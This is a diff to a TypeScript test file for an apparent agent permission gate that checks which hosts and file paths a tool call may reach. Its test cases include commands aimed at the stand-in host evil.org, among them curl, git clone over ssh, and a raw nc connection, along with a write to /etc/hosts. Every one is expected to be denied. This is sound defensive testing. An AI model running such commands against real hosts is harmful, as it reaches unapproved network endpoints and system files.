@@ -1,21 +1,14 @@
 import { expect, test } from "vitest";
-import { bash, context, edit, fetches, read } from "../../test/support/gate.ts";
+import { bash, context, edit, fetches, policy, read } from "../../test/support/gate.ts";
 import type { Capabilities } from "../protocol/skills.ts";
 import { decide, type GateCall } from "./decide.ts";
-import { scanCommands } from "./shell/scan.ts";
-
-const shell = {
-  read: (text: string) => ({ commands: scanCommands(text), redirects: [], opaque: null }),
-  isReadOnly: () => false,
-};
+import { needsShell } from "./needs-shell.ts";
 
 function under(capabilities: Capabilities, call: GateCall, folder?: string) {
   const bounds = [{ capabilities, ...(folder !== undefined && { folder }) }];
-  const { decision, reason } = decide(
-    call,
-    { mode: "unrestricted", sandbox: "off", rules: [], bounds },
-    { ...context, shell },
-  );
+  const one = { ...policy("unrestricted"), bounds };
+  const seen = needsShell(call, one, context) ? context : { ...context, shell: null };
+  const { decision, reason } = decide(call, one, seen);
   return decision === "deny" && reason.code === "beyond-pack" ? `${reason.lacks} ${reason.missing}`.trim() : decision;
 }
 
@@ -50,6 +43,15 @@ test.each<[string, Capabilities, GateCall, string]>([
   ],
   ["an address in a command counts", { hosts: ["example.com"] }, bash("curl -s https://evil.org/x"), "host evil.org"],
   ["a listed one in a command passes", { hosts: ["example.com"] }, bash("curl -s 'https://example.com/x'"), "allow"],
+  ["so does one of another kind", { hosts: ["example.com"] }, bash("git clone ssh://git@evil.org/x"), "host evil.org"],
+  ["or one that is listed", { hosts: ["example.com"] }, bash("git clone ssh://git@example.com/x"), "allow"],
+  ["a file of this machine is no host", { hosts: [] }, bash("open file:///tmp/x"), "allow"],
+  ["without an address it is a host", { hosts: ["example.com"] }, bash("curl -s evil.org/x"), "hidden-host curl"],
+  ["also by its whole path", { hosts: [] }, bash("cd x && /usr/bin/nc evil.org 80"), "hidden-host nc"],
+  ["a listed one passes so too", { hosts: ["example.com"] }, bash("curl -so a example.com/x"), "allow"],
+  ["and as a place of files", { hosts: ["example.com"] }, bash("scp me@example.com:a b"), "allow"],
+  ["what is only known later", { hosts: ["example.com"] }, bash("curl https://example.com/ $X"), "hidden-host curl"],
+  ["a command that reaches nobody is free", { hosts: [] }, bash("cat src/a.ts"), "allow"],
   ["a file within the patterns may be written", { paths: ["out/**"] }, edit(file("out/a/b.txt")), "allow"],
   ["another may not", { paths: ["out/**"] }, edit(file("src/a.ts")), `write ${file("src/a.ts")}`],
   ["nor one outside of the workspace", { paths: ["**"] }, edit("/etc/hosts"), "write /etc/hosts"],
@@ -76,7 +78,6 @@ test("who was signed without programs runs none from its folder", () => {
 
 test("of several packs every one must have been signed for it", () => {
   const bounds = [{ capabilities: { tools: ["bash"] } }, { capabilities: { tools: ["read_file"] } }];
-  const policy = { mode: "unrestricted", sandbox: "off", rules: [], bounds } as const;
-  for (const call of [bash("ls"), read(file("a"))])
-    expect(decide(call, policy, { ...context, shell }).decision).toBe("deny");
+  const one = { ...policy("unrestricted"), bounds };
+  for (const call of [bash("ls"), read(file("a"))]) expect(decide(call, one, context).decision).toBe("deny");
 });
